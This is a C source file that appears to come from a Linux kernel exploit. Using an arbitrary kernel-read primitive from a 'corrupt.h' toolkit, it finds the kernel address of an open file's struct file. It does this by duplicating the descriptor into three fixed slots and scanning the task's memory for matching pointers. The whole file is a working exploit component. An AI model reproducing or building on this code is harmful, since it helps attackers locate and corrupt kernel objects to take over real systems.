// SPDX-License-Identifier: GPL-2.0-only
#include <unistd.h>

#include "corrupt.h"
#include "objects.h"
#include "open_files.h"

#define FIRST_FD	40
#define NR_FDS		3
#define FILES_WORDS	96	/* of files_struct, with fd_array */

/* Consecutive descriptors of one file are as many equal pointers. */
static uint64_t file_in(uint64_t files)
{
	uint64_t words[FILES_WORDS];
	int i;

	if (kread(files, words, sizeof(words)))
		return 0;
	for (i = FIRST_FD; i + NR_FDS <= FILES_WORDS; i++)
		if (is_kernel_address(words[i]) && words[i] == words[i + 1] &&
		    words[i] == words[i + 2])
			return words[i];
	return 0;
}

uint64_t find_open_file(int fd, bool (*is_it)(uint64_t file, void *arg), void *arg)
{
	static uint64_t words[TASK_WORDS];
	struct task task;
	uint64_t file;
	int i;

	for (i = 0; i < NR_FDS; i++)
		dup2(fd, FIRST_FD + i);
	if (fd < 0 || ktask(0, &task))
		return 0;
	kread(task.task, words, sizeof(words));
	for (i = 0; i < TASK_WORDS; i++) {
		file = is_kernel_address(words[i]) ? file_in(words[i]) : 0;
		if (file && is_it(file, arg))
			return file;
	}
	return 0;
}
